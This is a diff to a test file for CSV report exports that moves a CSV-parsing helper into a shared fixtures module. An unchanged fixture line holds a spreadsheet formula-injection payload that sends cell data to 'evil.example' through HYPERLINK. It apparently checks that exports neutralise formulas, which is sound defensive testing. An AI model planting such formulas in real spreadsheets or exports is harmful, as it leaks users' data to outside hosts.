@@ -11,7 +11,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { projects } from "@backend/db/schema";
 import { csvCell, inertText } from "@backend/services/report-sheets";
 import { startTestApp, type TestApp } from "../harness";
-import { insertFinishedStudy, ownedStack, LARKFIELD } from "../report-fixtures";
+import { insertFinishedStudy, ownedStack, LARKFIELD, parseCsv } from "../report-fixtures";
 
 const NAMES = {
   project: '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -26,36 +26,6 @@ let t: TestApp;
 const c: Record<string, string> = {};
 let reportId: string;
 let csv: string;
-
-/** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = "";
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ",") {
-      row.push(cell);
-      cell = "";
-    } else if (ch === "\r" && text[i + 1] === "\n") {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = "";
-      i++;
-    } else cell += ch;
-  }
-  if (cell || row.length) rows.push([...row, cell]);
-  return rows;
-}
 
 async function download(path: string) {
   const res = await fetch(t.url + path, { headers: { cookie: c.engineer } });
